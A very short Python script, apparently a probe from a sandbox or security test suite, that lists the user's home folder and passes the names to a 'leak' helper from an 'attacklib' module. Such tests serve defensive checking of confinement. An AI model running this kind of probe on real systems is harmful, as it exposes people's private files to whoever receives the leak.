"""secrets: list the home folder."""

import os

from attacklib import *

attempt("home listing", lambda: leak(",".join(os.listdir(HOME))))
